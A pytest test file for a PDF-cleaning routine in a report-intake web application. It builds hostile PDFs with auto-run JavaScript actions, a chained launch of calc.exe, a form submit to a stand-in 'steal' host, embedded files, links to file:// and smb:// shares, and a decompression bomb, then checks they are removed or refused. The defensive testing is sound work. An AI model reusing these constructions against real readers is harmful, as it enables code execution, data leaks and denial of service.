"""PDFs are written anew without metadata, scripts, files or fetching actions.

Pure tests on real PDFs made here: by pikepdf (every hiding place at once),
by typst (what an office program or a design tool writes: real fonts, XMP,
tags) and by hand (tests/pdfs.py). A leftover is looked for twice: in the
bytes, including every compressed stream inflated, and by reopening the file.
"""

from __future__ import annotations

import io
import re
import struct
import zlib

import pikepdf
import pypdfium2 as pdfium
import pytest
import typst
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from trafficking.reports.attachments import MAX_ATTACHMENT_BYTES, AttachmentRejected, sanitise
from trafficking.reports.attachments import REJECTION_CODES as ATTACHMENT_CODES
from trafficking.reports.models import Attachment, Report
from trafficking.reports.pdf_clean import (
    MAX_INFLATED_STREAM_BYTES,
    MAX_PDF_OBJECTS,
    MAX_PDF_PAGES,
    PdfRejected,
    clean_pdf,
)
from trafficking.reports.tests.factories import login_with_otp
from trafficking.reports.tests.pdfs import MINIMAL_PDF, one_page_pdf
from trafficking.reports.tests.test_upload_safety import COMPLETE as REPORT_FORM
from trafficking.reports.tests.test_upload_safety import URL as REPORT_URL

AUTHOR = "Jan Uitbuiter-Geheim"
SOFTWARE = "KwaadSoft Studio 7"
LINK = "https://www.example.org/hulp"
PAGE_TEXT = "Loonstrook april"


# --- making PDFs -------------------------------------------------------------------


def _action_js(script: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(script))


def everything_pdf(*, object_streams: bool = True) -> bytes:
    """One page of text, and the author, scripts and files in every place we clean."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 200))
    page = pdf.pages[0].obj
    page.Contents = pdf.make_stream(f"BT /F1 18 Tf 20 100 Td ({PAGE_TEXT}) Tj ET".encode())
    page.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    # Document information and XMP.
    pdf.docinfo["/Author"] = AUTHOR
    pdf.docinfo["/Producer"] = SOFTWARE
    pdf.docinfo["/CreationDate"] = "D:20260401120000+02'00'"
    with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False) as meta:
        meta["dc:creator"] = [AUTHOR]
        meta["xmp:CreatorTool"] = SOFTWARE
    # Page-level metadata, application data and a thumbnail.
    page.Metadata = pdf.make_stream(f"<x:xmpmeta>{AUTHOR} page</x:xmpmeta>".encode())
    page.PieceInfo = Dictionary(Illustrator=Dictionary(Private=String(f"{AUTHOR} source file")))
    page.Thumb = pdf.make_stream(f"thumbnail of {AUTHOR}".encode())
    # Scripts: on opening, on closing, on showing the page, document-level.
    pdf.Root.OpenAction = _action_js(f"app.alert('{AUTHOR} open')")
    pdf.Root.AA = Dictionary(WC=_action_js("this.submitForm('https://x.example/')"))
    page.AA = Dictionary(O=_action_js("page open script"))
    document_js = pdf.make_indirect(_action_js("document level script"))
    # Embedded files: in the name tree and as an annotation.
    embedded = pdf.make_stream(f"embedded file of {AUTHOR}".encode())
    embedded.Type = Name.EmbeddedFile
    filespec = Dictionary(Type=Name.Filespec, F=String("geheim.txt"), EF=Dictionary(F=embedded))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), document_js])),
        EmbeddedFiles=Dictionary(Names=Array([String("geheim.txt"), pdf.make_indirect(filespec)])),
    )
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([0, 0, 20, 20]),
        FS=Dictionary(
            Type=Name.Filespec,
            F=String("b.txt"),
            EF=Dictionary(F=pdf.make_stream(f"annotation file of {AUTHOR}".encode())),
        ),
    )
    # Links: a web link (kept) that chains a program launch (not kept), a link
    # that submits a form, and a link to the page itself (kept).
    web_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([20, 20, 200, 40]),
        A=Dictionary(
            S=Name.URI,
            URI=String(LINK),
            Next=Dictionary(S=Name.Launch, F=String("calc.exe")),
        ),
    )
    submit_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([20, 40, 200, 60]),
        A=Dictionary(S=Name.SubmitForm, F=String("https://x.example/steal")),
    )
    goto_link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([20, 60, 200, 80]),
        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])),
    )
    # A form field whose keystroke script and click action would run.
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("naam"),
        Rect=Array([20, 120, 200, 140]),
        AA=Dictionary(K=_action_js("keystroke script")),
        A=_action_js("click script"),
    )
    annotations = [web_link, submit_link, goto_link, attachment, field]
    page.Annots = Array([pdf.make_indirect(a) for a in annotations])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([page.Annots[4]]),
        XFA=pdf.make_stream(f"<xdp:xdp><script>{AUTHOR}</script></xdp:xdp>".encode()),
    )
    # A bookmark that runs a script when clicked.
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(
        Dictionary(Title=String("Start"), Parent=outline, A=_action_js("bookmark script"))
    )
    outline.First = item
    outline.Last = item
    pdf.Root.Outlines = outline
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=mode, fix_metadata_version=False)
    return out.getvalue()


def typst_pdf() -> bytes:
    """A tagged PDF with real fonts, a web link and the author in /Info and XMP."""
    source = f"""
#set document(title: "Loonstrook", author: "{AUTHOR}", keywords: ("bewijs",))
#set page(width: 10cm, height: 6cm)
= Loonstrook
Uitbetaald: 3 euro per uur, 70 uur per week. #link("{LINK}")[Meer informatie]
"""
    return typst.compile(source.encode(), format="pdf")


def pages_pdf(count: int) -> bytes:
    pdf = pikepdf.new()
    for _ in range(count):
        pdf.add_blank_page(page_size=(100, 100))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def encrypted_pdf(user: str, owner: str = "eigenaar") -> bytes:
    pdf = pikepdf.open(io.BytesIO(one_page_pdf(PAGE_TEXT, info=f"/Author ({AUTHOR})")))
    out = io.BytesIO()
    permissions = pikepdf.Permissions(extract=False, modify_other=False, print_highres=False)
    pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, allow=permissions))
    return out.getvalue()


# --- looking inside ---------------------------------------------------------------


def all_bytes(data: bytes) -> bytes:
    """The file followed by every Flate stream in it inflated, reachable or not:
    object streams too, so an object left over in one is found."""
    found = [data]
    for match in re.finditer(rb"stream\r?\n", data):
        try:
            found.append(zlib.decompressobj().decompress(data[match.end() :]))
        except zlib.error:
            continue
    return b"\n".join(found)


def render(data: bytes) -> tuple[int, bytes, str]:
    document = pdfium.PdfDocument(data)
    try:
        page = document[0]
        bitmap = page.render(scale=2)
        pixels = bitmap.to_pil().tobytes()
        text = page.get_textpage().get_text_range()
        return len(document), pixels, text
    finally:
        document.close()


def every_dictionary(pdf: pikepdf.Pdf):
    """Every dictionary in the file, direct ones inside indirect ones too."""
    pending = list(pdf.objects)
    while pending:
        obj = pending.pop()
        if isinstance(obj, Dictionary | pikepdf.Stream):
            yield obj
            pending.extend(v for v in obj.values() if _direct_container(v))
        elif isinstance(obj, Array):
            pending.extend(v for v in obj if _direct_container(v))


def _direct_container(obj) -> bool:
    return isinstance(obj, Dictionary | pikepdf.Stream | Array) and not obj.is_indirect


def action_types(pdf: pikepdf.Pdf) -> set[str]:
    return {
        str(d["/S"])
        for d in every_dictionary(pdf)
        if "/S" in d and ("/JS" in d or "/URI" in d or "/F" in d or "/D" in d)
    }


# --- what goes ---------------------------------------------------------------------


@pytest.mark.parametrize("object_streams", [True, False], ids=["object-streams", "plain"])
def test_author_scripts_and_files_are_there_before_and_gone_after(object_streams):
    original = everything_pdf(object_streams=object_streams)
    before = all_bytes(original)
    for needle in (AUTHOR, SOFTWARE, "JavaScript", "EmbeddedFile", "OpenAction", "XFA"):
        assert needle.encode() in before, needle

    cleaned = clean_pdf(original)

    after = all_bytes(cleaned)
    for needle in (
        AUTHOR,
        SOFTWARE,
        "JavaScript",
        "/JS",
        "EmbeddedFile",
        "/EF",
        "OpenAction",
        "/AA",
        "XFA",
        "PieceInfo",
        "Thumb",
        "Metadata",
        "Launch",
        "SubmitForm",
        "FileAttachment",
        "calc.exe",
    ):
        assert needle.encode() not in after, needle
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert "/Info" not in pdf.trailer
        assert not {"/Metadata", "/OpenAction", "/AA", "/PieceInfo"} & set(pdf.Root.keys())
        assert set(pdf.Root.Names.keys()) == set()
        assert "/XFA" not in pdf.Root.AcroForm
        page = pdf.pages[0].obj
        assert not {"/Metadata", "/PieceInfo", "/Thumb", "/AA"} & set(page.keys())
        assert [str(a.Subtype) for a in page.Annots] == ["/Link", "/Link", "/Link", "/Widget"]
        assert not any("/AA" in d or "/EF" in d for d in every_dictionary(pdf))
        assert action_types(pdf) == {"/URI", "/GoTo"}


def test_the_file_names_no_program_and_no_pdf_library():
    cleaned = all_bytes(clean_pdf(everything_pdf()))
    for name in (b"pikepdf", b"qpdf", b"Producer", b"Creator", b"xmpmeta"):
        assert name not in cleaned.lower() and name not in cleaned


def test_an_earlier_revision_holding_the_author_is_not_carried_over():
    # An editor "removed" the author by an incremental update: the old /Info
    # is still in the file, only no longer referenced by the newest trailer.
    first = one_page_pdf(PAGE_TEXT, info=f"/Author ({AUTHOR})")
    update_at = len(first)
    update = b"6 0 obj\n<< /Author (Anoniem) >>\nendobj\n"
    xref_at = update_at + len(update)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    original = (
        first
        + update
        + b"xref\n0 1\n0000000000 65535 f \n6 1\n%010d 00000 n \n" % update_at
        + b"trailer\n<< /Size 7 /Root 1 0 R /Info 6 0 R /Prev %d >>\n" % previous
        + b"startxref\n%d\n%%%%EOF\n" % xref_at
    )
    with pikepdf.open(io.BytesIO(original)) as pdf:
        assert str(pdf.docinfo["/Author"]) == "Anoniem"  # the newest revision
    assert AUTHOR.encode() in original

    cleaned = clean_pdf(original)
    assert AUTHOR.encode() not in all_bytes(cleaned)
    assert b"Anoniem" not in cleaned
    assert cleaned.count(b"%%EOF") == 1 and b"/Prev" not in cleaned


def test_the_xmp_and_info_of_a_typeset_pdf_are_removed():
    original = typst_pdf()
    assert original.count(AUTHOR.encode()) >= 2  # in /Info and in XMP
    cleaned = clean_pdf(original)
    assert AUTHOR.encode() not in all_bytes(cleaned)
    assert b"typst" not in all_bytes(cleaned).lower()
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert "/Metadata" not in pdf.Root and "/Info" not in pdf.trailer
        # What screen readers use stays.
        assert "/StructTreeRoot" in pdf.Root


def test_the_original_file_identifier_is_replaced():
    original = everything_pdf()
    with pikepdf.open(io.BytesIO(original)) as pdf:
        sent_id = bytes(pdf.trailer.ID[0])
    cleaned = clean_pdf(original)
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert bytes(pdf.trailer.ID[0]) != sent_id
    assert clean_pdf(original) == cleaned  # computed from the content, not the clock


# --- what stays --------------------------------------------------------------------


@pytest.mark.parametrize("make", [everything_pdf, typst_pdf, lambda: MINIMAL_PDF])
def test_the_pages_look_the_same(make):
    original = make()
    cleaned = clean_pdf(original)
    pages, pixels, text = render(original)
    assert render(cleaned) == (pages, pixels, text)
    assert text.strip()  # there was something to compare


def test_web_links_and_links_within_the_file_stay():
    for original in (everything_pdf(), typst_pdf()):
        with pikepdf.open(io.BytesIO(clean_pdf(original))) as pdf:
            uris = [
                str(a.A.URI)
                for a in pdf.pages[0].obj.Annots
                if "/A" in a and a.A.get("/S") == Name.URI
            ]
            assert set(uris) == {LINK}  # typst may split a link into boxes
    with pikepdf.open(io.BytesIO(clean_pdf(everything_pdf()))) as pdf:
        link = pdf.pages[0].obj.Annots[0]
        assert "/Next" not in link.A  # the chained Launch went
        assert Name.GoTo == pdf.pages[0].obj.Annots[2].A.S
        assert str(pdf.Root.AcroForm.Fields[0].T) == "naam"  # the field, without scripts
        assert "/A" not in pdf.Root.Outlines.First  # the bookmark, without its script


def test_a_pdf_restricted_by_an_owner_password_only_is_cleaned_and_unlocked():
    original = encrypted_pdf(user="")
    with pikepdf.open(io.BytesIO(original)) as pdf:
        assert pdf.is_encrypted
    cleaned = sanitise(original, "bankafschrift.pdf").content
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert not pdf.is_encrypted and "/Info" not in pdf.trailer
    assert AUTHOR.encode() not in all_bytes(cleaned)
    assert PAGE_TEXT in render(cleaned)[2]


def test_the_page_limit_itself_is_allowed():
    with pikepdf.open(io.BytesIO(clean_pdf(pages_pdf(MAX_PDF_PAGES)))) as pdf:
        assert len(pdf.pages) == MAX_PDF_PAGES


# --- what is refused ---------------------------------------------------------------


def rejection(data: bytes) -> str:
    with pytest.raises(AttachmentRejected) as refused:
        sanitise(data, "document.pdf", "application/pdf")
    return refused.value.code


def test_a_pdf_that_needs_a_password_is_refused():
    assert rejection(encrypted_pdf(user="geheim")) == "encrypted"


def test_more_pages_than_the_limit_are_refused():
    assert rejection(pages_pdf(MAX_PDF_PAGES + 1)) == "too_many_pages"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-" + bytes(range(256)) * 8 + b"\n%%EOF\n",
        b"%PDF-1.7\n" + b"niet echt een pdf " * 100 + b"\n%%EOF\n",
        b"%PDF-1.4\n%%EOF\n",
        # A page tree without pages.
        MINIMAL_PDF.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
    ],
    ids=["binary-garbage", "text-garbage", "header-only", "no-pages"],
)
def test_garbage_after_the_header_is_refused_as_corrupt(data):
    assert rejection(data) == "corrupt"


def test_the_rejection_codes_are_ones_the_attachment_check_knows():
    with pytest.raises(PdfRejected) as refused:
        clean_pdf(pages_pdf(MAX_PDF_PAGES + 1))
    # AttachmentRejected raises ValueError for a code it does not know.
    assert AttachmentRejected(refused.value.code).code == "too_many_pages"


# --- through the reporting point ---------------------------------------------------


@pytest.mark.django_db
def test_a_reported_pdf_is_stored_cleaned_and_staff_download_the_clean_file(client):
    response = client.post(
        REPORT_URL,
        {**REPORT_FORM, "files": [SimpleUploadedFile("loonstrook.pdf", everything_pdf())]},
    )
    assert response.status_code == 201
    attachment = Attachment.objects.get()
    login_with_otp(client, "intake")
    download = client.get(f"/intake/bijlagen/{attachment.pk}/")
    assert download.status_code == 200
    stored = b"".join(download)
    assert stored == clean_pdf(everything_pdf())
    assert AUTHOR.encode() not in all_bytes(stored) and b"JavaScript" not in all_bytes(stored)
    assert PAGE_TEXT in render(stored)[2]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (encrypted_pdf(user="geheim"), "beveiligd met een wachtwoord"),
        (pages_pdf(MAX_PDF_PAGES + 1), "hoogstens 500"),
    ],
    ids=["encrypted", "too-many-pages"],
)
def test_a_pdf_that_cannot_be_cleaned_is_refused_in_the_form_with_a_message(client, data, message):
    response = client.post(
        REPORT_URL, {**REPORT_FORM, "files": [SimpleUploadedFile("scan.pdf", data)]}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert REPORT_FORM["text"] in html  # what was typed stays
    assert not Report.objects.exists() and not Attachment.objects.exists()


# --- what cleaning may cost ----------------------------------------------------------


def links_pdf(pages: int, links: int) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(100, 100))
        pdf.pages[-1].obj.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
                )
                for _ in range(links)
            ]
        )
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def test_a_file_with_too_many_objects_to_clean_is_refused():
    # Each tiny link is a dictionary and its /Rect an array: over the cap in
    # a few megabytes.
    pages = MAX_PDF_OBJECTS // 2000 + 10
    data = links_pdf(pages, 1000)
    assert len(data) < MAX_ATTACHMENT_BYTES
    assert rejection(data) == "too_complex"
    # Under the cap it is cleaned, links and all.
    assert rejection_or_none(links_pdf(10, 1000)) is None


def rejection_or_none(data: bytes) -> str | None:
    try:
        sanitise(data, "document.pdf")
    except AttachmentRejected as error:
        return error.code
    return None


def object_stream_bomb(inflated: int) -> bytes:
    """A page whose dictionary sits in an object stream that inflates to
    ``inflated`` bytes, nearly all of it blanks, from a thousandth of that."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    body = b"3 0 " + b" " * inflated + page
    packed = zlib.compress(body, 9)
    out = bytearray(b"%PDF-1.5\n")
    offsets = []
    for obj in (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    ):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (len(offsets), obj)
    offsets.append(len(out))
    out += (
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\n"
        b"stream\n" % (len(body) - len(page), len(packed)) + packed + b"\nendstream\nendobj\n"
    )
    xref = len(out)
    rows = [(0, 0, 65535), (1, offsets[0], 0), (1, offsets[1], 0), (2, 4, 0)]
    rows += [(1, offsets[2], 0), (1, xref, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return bytes(out)


def test_an_object_stream_that_inflates_beyond_the_limit_is_refused():
    small = object_stream_bomb(1024 * 1024)
    assert rejection_or_none(small) is None  # the construction itself is sound
    bomb = object_stream_bomb(MAX_INFLATED_STREAM_BYTES + 1024 * 1024)
    assert len(bomb) < 100_000  # 33 MB from tens of kilobytes
    assert rejection(bomb) == "corrupt"


# --- every refusal has words -------------------------------------------------------


def test_every_rejection_has_its_own_message_for_reporters_and_makers():
    from trafficking.campaigns.material_forms import FILE_ERRORS
    from trafficking.reports.views import attachment_error

    for code in ATTACHMENT_CODES:
        assert code in FILE_ERRORS, code
        if code != "corrupt":
            assert attachment_error(code) != attachment_error("corrupt"), code
    assert str(MAX_PDF_PAGES) in attachment_error("too_many_pages")
    assert str(MAX_PDF_PAGES) in str(FILE_ERRORS["too_many_pages"])


# --- who commented, who signed, where links lead --------------------------------------


def annotated_pdf() -> bytes:
    """A page with a comment by a named author, a form field and a signature."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 200))
    page = pdf.pages[0].obj
    comment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Text,
        Rect=Array([10, 10, 30, 30]),
        Contents=String("Hier staat het loon"),
        T=String("Maria Jansen"),
        M=String("D:20260401120000+02'00'"),
        CreationDate=String("D:20260401115900+02'00'"),
        NM=String("maria-laptop-0001"),
    )
    signature = pdf.make_indirect(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            Name=String("Maria Jansen"),
            ContactInfo=String("maria@example.org"),
            Location=String("Tilburg"),
            Reason=String("Akkoord"),
            Contents=String(b"\x30\x82certificate of Maria Jansen"),
        )
    )
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Sig,
        T=String("Handtekening werknemer"),
        Rect=Array([40, 40, 140, 60]),
        V=signature,
    )
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(comment), pdf.make_indirect(field)]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([page.Annots[1]]))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def test_comments_lose_their_author_and_signatures_their_signer():
    before = annotated_pdf()
    assert b"Maria Jansen" in all_bytes(before) and b"maria@" in all_bytes(before)
    cleaned = clean_pdf(before)
    text = all_bytes(cleaned)
    for trace in (b"Maria", b"maria", b"Tilburg", b"D:2026", b"certificate"):
        assert trace not in text
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        comment, field = pdf.pages[0].obj.Annots
        assert str(comment.Contents) == "Hier staat het loon"  # what the comment says stays
        assert str(field.T) == "Handtekening werknemer"  # a field's name is not a person
        assert field.V.Type == Name.Sig and set(field.V.keys()) == {"/Type"}


@pytest.mark.parametrize(
    ("target", "kept"),
    [
        ("https://www.example.org/hulp", True),
        ("http://example.org/", True),
        ("mailto:info@example.org", True),
        ("tel:+31000000000", True),
        ("file://///evil/share/payload", False),
        ("FILE:///C:/Windows/system32/calc.exe", False),
        ("javascript:app.alert(1)", False),
        ("\\\\evil\\share", False),
        ("smb://evil/share", False),
        ("about:blank", False),
    ],
)
def test_links_are_kept_only_to_web_pages_mail_and_phone(target, kept):
    cleaned = clean_pdf(one_page_pdf(link=target))
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        (link,) = pdf.pages[0].obj.Annots
        assert ("/A" in link) is kept
        if kept:
            assert str(link.A.URI) == target


def test_a_file_that_declares_millions_of_objects_is_refused_before_reading_them():
    data = one_page_pdf().replace(b"/Size 6 /Root", b"/Size 9000000 /Root")
    assert rejection(data) == "too_complex"
